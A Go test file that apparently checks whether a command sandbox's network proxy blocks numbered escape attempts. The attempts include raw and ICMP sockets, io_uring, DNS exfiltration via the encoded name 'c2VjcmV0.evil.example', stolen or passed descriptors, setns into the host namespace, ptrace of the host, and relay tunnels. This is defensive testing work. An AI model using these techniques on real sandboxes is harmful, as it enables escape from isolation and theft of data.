//go:build linux

package attack

import (
	"bufio"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/execbus/execbus/messages"
	"github.com/execbus/execbus/ptyio"
)

// lookups hears each question of this process to its name server. Nobody answers.
var lookups = make(ear, 64)

func init() {
	net.DefaultResolver = &net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
		select {
		case lookups <- struct{}{}:
		default:
		}
		return nil, errors.New("there is no name server")
	}}
}

// namedHosts are attempts by commands that may talk to one named host, and to no other. The numbers are those of the attacks on the
// proxy, see package network.
func namedHosts() []attack {
	var list []attack
	// at makes an attack on an ear. The host that is allowed is another.
	at := func(name string, listen func(*scene) ear, act func(places) error) {
		list = append(list, reach(name, func(s *scene) ear {
			allowOne(s)
			return listen(s)
		}, act))
	}
	evil := func(s *scene) ear {
		e, addr := streams(s, "tcp4", "127.0.0.1:0")
		s.TCP = addr.(*net.TCPAddr).Port
		return e
	}
	udp := func(s *scene) ear {
		e, addr := packets(s, "udp4", "127.0.0.1:0")
		s.UDP = addr.(*net.UDPAddr).Port
		return e
	}
	believed := func(name string, act func(places) error) {
		list = append(list, attack{name: name, setup: func(s *scene) { allowOne(s) }, act: act})
	}
	toEvil := func(p places) string { return fmt.Sprintf("127.0.0.1:%d", p.TCP) }
	raw := func(p places) error { return dialled(toEvil(p)) }

	// Around the proxy.
	at("56 a socket of its own", evil, raw)
	at("56 a socket to the host that is allowed, past the proxy", func(s *scene) ear {
		e := evil(s)
		s.policy.Network = only(fmt.Sprintf("127.0.0.1:%d", s.TCP))
		return e
	}, raw)
	at("57 datagrams", udp, sending(unix.AF_INET, unix.SOCK_DGRAM, func(p places) unix.Sockaddr { return localhost(p.UDP) }))
	for name, kind := range map[string][3]int{"ICMP": {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP}, "ICMP without rights": {unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
		"packets": {unix.AF_PACKET, unix.SOCK_RAW, 0}, "the hypervisor": {unix.AF_VSOCK, unix.SOCK_STREAM, 0}, "the crypto sockets": {unix.AF_ALG, unix.SOCK_SEQPACKET, 0}} {
		believed("57 "+name, func(places) error {
			fd, err := unix.Socket(kind[0], kind[1], kind[2])
			if err == nil && kind[2] == unix.IPPROTO_ICMP { // the socket alone reaches nothing
				err = unix.Sendto(fd, []byte("\x08\x00\xf7\xff\x00\x00\x00\x00"), 0, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 2}})
				if err == nil && strings.HasPrefix(os.Getenv("http_proxy"), "http") {
					err = errHeld // it reaches the command's own loopback
				}
			}
			return err
		})
	}
	believed("57 connecting by io_uring", func(places) error {
		return let(call(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&[30]uint32{}))))
	})
	at("58 a query to a name server", udp, func(p places) error {
		c, err := net.Dial("udp", fmt.Sprintf("127.0.0.1:%d", p.UDP))
		if err == nil {
			_, err = io.WriteString(c, "\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01")
		}
		return err
	})
	at("58 names over HTTPS by an address, through the proxy", evil, func(p places) error { return throughProxy(toEvil(p)) })
	at("58 names over HTTPS by an address, through the proxy by SOCKS", evil, func(p places) error { return throughSOCKS("127.0.0.1", p.TCP) })
	list = append(list, attack{name: "58 data in a name that the host looks up", unsafe: true, setup: allowOne,
		act: func(places) error {
			err := throughProxy("c2VjcmV0.evil.example:443")
			if other := throughSOCKS("c2VjcmV0.evil.example", 443); other == nil {
				err = nil
			}
			return err
		}, won: func(*scene) bool { return lookups.heard() }})
	at("59 a daemon's socket", func(s *scene) ear { e, _ := streams(s, "unix", s.Out+"/s"); return e },
		connecting(unix.AF_UNIX, unix.SOCK_STREAM, 0, func(p places) unix.Sockaddr { return &unix.SockaddrUnix{Name: p.Out + "/s"} }))
	at("59 a daemon's abstract socket", func(s *scene) ear { e, _ := streams(s, "unix", abstractly(s)); return e },
		connecting(unix.AF_UNIX, unix.SOCK_STREAM, 0, func(p places) unix.Sockaddr { return &unix.SockaddrUnix{Name: p.Abstract} }))
	at("60 a socket that the host has left open", func(s *scene) ear {
		e := evil(s)
		c, err := net.Dial("tcp", toEvil(s.places))
		must(s, err)
		f, err := c.(*net.TCPConn).File()
		must(s, err)
		_, err = unix.FcntlInt(f.Fd(), unix.F_SETFD, 0)
		must(s, err)
		s.Cleanup(func() { _ = f.Close(); _ = c.Close() })
		e.heard() // that connection is the host's own
		return e
	}, func(places) error { return keptDescriptors(places{}) })
	list[len(list)-1].won = nil // the ear has heard the host
	at("60 a socket that somebody hands in", func(s *scene) ear {
		e := evil(s)
		helps(s, "unix", s.Out+"/s", func(conn net.Conn) {
			far, err := net.Dial("tcp", toEvil(s.places))
			if err == nil {
				f, _ := far.(*net.TCPConn).File()
				_, _, _ = conn.(*net.UnixConn).WriteMsgUnix([]byte("x"), unix.UnixRights(int(f.Fd())), nil)
				_, _ = f.Close(), far.Close()
			}
		})
		return e
	}, func(p places) error {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
		if err == nil {
			err = unix.Connect(fd, &unix.SockaddrUnix{Name: p.Out + "/s"})
		}
		if err == nil {
			_, _, _, _, err = unix.Recvmsg(fd, make([]byte, 1), make([]byte, 64), 0)
		}
		return err
	})
	// A helper outside does what it is asked to: tmux, the user's systemd, an agent for ssh.
	for name, listen := range map[string]func(*scene) (network, address string){
		"61 a helper's socket in the workspace": func(s *scene) (string, string) { return "unix", s.Work + "/helper" },
		"61 a helper's socket elsewhere":        func(s *scene) (string, string) { return "unix", s.Out + "/helper" },
		"61 a helper's abstract socket":         func(s *scene) (string, string) { return "unix", abstractly(s) },
		"61 a helper's port":                    func(*scene) (string, string) { return "tcp4", "127.0.0.1:0" },
	} {
		at(name, func(s *scene) ear {
			e := evil(s)
			network, address := listen(s)
			s.Daemon = network + " " + helps(s, network, address, func(conn net.Conn) {
				if order, err := bufio.NewReader(conn).ReadString('\n'); err == nil {
					_ = dialled(strings.TrimSpace(order))
				}
			}).String()
			return e
		}, func(p places) error {
			network, address, _ := strings.Cut(p.Daemon, " ")
			c, err := net.Dial(network, address)
			if err == nil {
				_, err = fmt.Fprintln(c, toEvil(p))
			}
			if err == nil {
				_, _ = io.ReadAll(c) // until it has done it
			}
			return err
		})
	}
	for name, pid := range map[string]func(places) int{"the host": func(p places) int { return p.Host }, "process 1": func(places) int { return 1 },
		"its parent": func(places) int { return os.Getppid() }} {
		at("62 the network of "+name, evil, func(p places) error {
			fd, err := unix.Open(fmt.Sprintf("/proc/%d/ns/net", pid(p)), unix.O_RDONLY, 0)
			if err == nil {
				err = unix.Setns(fd, unix.CLONE_NEWNET)
			}
			return errors.Join(err, raw(p))
		})
	}
	at("62 rights in a user namespace of its own", evil, func(p places) error {
		return errors.Join(unix.Unshare(unix.CLONE_NEWUSER), raw(p))
	})
	believed("62 a network of its own", func(places) error { return unix.Unshare(unix.CLONE_NEWUSER | unix.CLONE_NEWNET) })
	believed("63 the host's descriptors", func(p places) error {
		fd, err := unix.PidfdOpen(p.Host, 0)
		if err != nil {
			return err
		}
		for n := range 64 {
			if got, err := unix.PidfdGetfd(fd, n, 0); err == nil {
				if _, err := unix.Getsockname(got); err == nil {
					return nil
				}
			}
		}
		return errHeld
	})
	believed("63 tracing the host", func(p places) error { return unix.PtraceSeize(p.Host) })
	for name, option := range map[string]int{"the proxy's port": unix.SO_REUSEADDR, "a share of the proxy's port": unix.SO_REUSEPORT} {
		believed("64 "+name, func(places) error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
			if err == nil {
				err = unix.SetsockoptInt(fd, unix.SOL_SOCKET, option, 1)
			}
			if err == nil {
				err = unix.Bind(fd, localhost(int(ptyio.ProxyAddress().Port())))
			}
			if err == nil {
				err = unix.Listen(fd, 1)
			}
			return err
		})
	}
	at("65 a relay inside, which connects", evil, func(p places) error { return byRelay(toEvil(p), dialled) })
	at("65 a relay inside, which asks the proxy", evil, func(p places) error { return byRelay(toEvil(p), throughProxy) })
	at("65 a relay inside, which the proxy is asked for", evil, func(p places) error {
		relay, stop, err := relays(dialled)
		if err != nil {
			return err
		}
		defer stop()
		return errors.Join(throughProxy(relay), raw(p)) // the proxy must neither reach the relay nor one like it outside
	})
	at("65 another proxy inside the tunnel", evil, func(p places) error {
		tunnel, err := tunnelTo(fmt.Sprintf("127.0.0.1:%d", p.Allowed))
		if err != nil {
			return errors.Join(err, raw(p))
		}
		_, _ = fmt.Fprintf(tunnel, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", toEvil(p))
		_, err = io.ReadAll(tunnel)
		return err
	})
	list = append(list, attack{name: "66 a listener inside", act: func(p places) error {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err == nil {
			err = os.WriteFile(p.Work+"/port", []byte(l.Addr().String()), 0o644)
		}
		if err != nil {
			return err
		}
		_ = l.(*net.TCPListener).SetDeadline(time.Now().Add(200 * time.Millisecond))
		_, err = l.Accept()
		return err
	}, setup: func(s *scene) {
		allowOne(s)
		go visit(s.Context(), s.Work+"/port")
	}})
	return list
}

// fine are no attacks: they show that the others fail although the proxy serves, and that its questions to a name server are heard.
var fine = []attack{
	{name: "the host that is allowed", setup: allowOne, act: func(p places) error { return throughProxy(fmt.Sprintf("127.0.0.1:%d", p.Allowed)) }},
	{name: "the name that is allowed", setup: func(s *scene) { s.policy.Network = only("allowed.example:443") },
		act: func(places) error { return throughProxy("allowed.example:443") }, won: func(*scene) bool { return lookups.heard() }},
}

func TestWhatIsAllowedWorksAmongAttacks(t *testing.T) {
	rt := host(t)
	if level, _, text := best(t, rt); level != messages.AssuranceIsolated {
		t.Skipf("skipped: nothing can be isolated here: %s", text)
	}
	for _, a := range fine {
		if won, why := stage(t, rt, a).try(a, messages.AssuranceIsolated); !won {
			t.Errorf("%s: %s", a.name, why)
		}
	}
}

// only is a policy for one host, to which a command may say anything.
func only(authority string) *messages.NetworkPolicy {
	return &messages.NetworkPolicy{Hosts: []messages.HostRule{{Host: authority, Protocol: messages.HostTCP, Decision: messages.HostAllow}}}
}

// allowOne starts the host that is allowed. It closes each connection after its first byte.
func allowOne(s *scene) {
	at := helps(s, "tcp4", "127.0.0.1:0", func(conn net.Conn) { _, _ = conn.Read(make([]byte, 1)) })
	s.Allowed = at.(*net.TCPAddr).Port
	s.policy.Network = only(at.String())
}

// helps serves outside until the test ends.
func helps(s *scene, network, address string, serve func(net.Conn)) net.Addr {
	l, err := net.Listen(network, address)
	must(s, err)
	s.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_ = c.SetDeadline(time.Now().Add(patience))
			serve(c)
			_ = c.Close()
		}
	}()
	return l.Addr()
}

func abstractly(s *scene) string {
	name := fmt.Sprintf("@execbus-attack-%d-%s", os.Getpid(), s.Out)
	s.Abstract = name[:min(len(name), 100)]
	return s.Abstract
}

// visit connects to an address as soon as it is in a file.
func visit(ctx context.Context, file string) {
	for ctx.Err() == nil {
		if at, err := os.ReadFile(file); err == nil {
			if c, err := net.Dial("tcp", string(at)); err == nil {
				_ = c.Close()
			}
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// dialled connects to a port and says something.
func dialled(authority string) error {
	c, err := net.DialTimeout("tcp", authority, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = io.WriteString(c, "x")
	return err
}

// throughProxy asks the proxy for a host; without a sandbox there is none.
func throughProxy(authority string) error {
	c, err := tunnelTo(authority)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = io.WriteString(c, "x")
	return err
}

// tunnelTo opens a tunnel by the command's own proxy and credential.
func tunnelTo(authority string) (net.Conn, error) {
	proxy, err := url.Parse(os.Getenv("http_proxy"))
	if err != nil || proxy.Host == "" {
		return net.DialTimeout("tcp", authority, 5*time.Second)
	}
	c, err := net.DialTimeout("tcp", proxy.Host, 5*time.Second)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(patience))
	_, _ = fmt.Fprintf(c, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\nProxy-Authorization: Basic %[2]s\r\n\r\n", authority, base64.StdEncoding.EncodeToString([]byte(proxy.User.String())))
	response, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err == nil && response.StatusCode != http.StatusOK {
		err = errors.New(response.Status)
	}
	if err != nil {
		_ = c.Close()
		return nil, err
	}
	return c, nil
}

// throughSOCKS is throughProxy by SOCKS, for a name or an address that is written like one.
func throughSOCKS(host string, port int) error {
	proxy, err := url.Parse(os.Getenv("http_proxy"))
	if err != nil || proxy.Host == "" {
		return dialled(fmt.Sprintf("%s:%d", host, port))
	}
	c, err := net.DialTimeout("tcp", proxy.Host, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	_, _ = io.WriteString(c, "\x05\x01\x00\x05\x01\x00\x03"+string([]byte{byte(len(host))})+host+string([]byte{byte(port >> 8), byte(port)}))
	answer := make([]byte, 4)
	if _, err := io.ReadFull(c, answer); err != nil {
		return err
	}
	if answer[3] != 0 {
		return fmt.Errorf("code %d", answer[3])
	}
	_, err = io.WriteString(c, "x")
	return err
}

// relays starts a relay: it goes where the first line of a connection says.
func relays(pass func(authority string) error) (address string, stop func(), err error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", nil, err
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			if to, err := bufio.NewReader(c).ReadString('\n'); err == nil {
				_, _ = fmt.Fprintln(c, pass(strings.TrimSpace(to)))
			}
			_ = c.Close()
		}
	}()
	return l.Addr().String(), func() { _ = l.Close() }, nil
}

// byRelay asks a relay inside for a host.
func byRelay(authority string, pass func(string) error) error {
	relay, stop, err := relays(pass)
	if err != nil {
		return err
	}
	defer stop()
	c, err := net.Dial("tcp", relay)
	if err != nil {
		return err
	}
	defer c.Close()
	_, _ = fmt.Fprintln(c, authority)
	if said, _ := io.ReadAll(c); strings.TrimSpace(string(said)) != "<nil>" {
		return errors.New(strings.TrimSpace(string(said)))
	}
	return nil
}
